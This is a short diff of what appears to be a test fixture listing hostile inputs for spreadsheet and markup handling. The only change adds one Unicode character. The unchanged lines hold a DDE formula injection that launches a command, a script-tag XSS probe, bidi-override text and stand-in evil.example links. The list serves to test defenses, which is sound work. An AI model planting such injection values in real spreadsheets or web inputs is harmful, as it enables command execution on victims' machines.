@@ -14,7 +14,7 @@ FORMULAS = ["=1+1", "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http
 MARKUP = [
     '"""', "\\", "\\u0041\\n", "'''", '<http://evil.example> <p> "x" .', "} } GRAPH <x> {", "@prefix : <x> .", "_x0041_ _x000D_",
     "<script>alert(1)</script> & ]]> &amp;", "</sheetData>", "{{x}} ${x} $(x) `x`", "a, b; c | d", "two\nlines\r\nand a third\n",
-    "\u202eevil\u202c", "مرصد الشمال", "\U0001f469\u200d\U0001f680 \ufeff \u2028 x", "%s%n%d", "null", "NaN", "1e9", "true", "2021-05-01", "https://evil.example/a?b=c d",
+    "\u202eevil\u202c", "مرصد الشمال", "\U0001f469\u200d\U0001f680 \ufeff \u2028 \ufffe x", "%s%n%d", "null", "NaN", "1e9", "true", "2021-05-01", "https://evil.example/a?b=c d",
     "x" * 1900,
 ]
 HOSTILE = FORMULAS + MARKUP
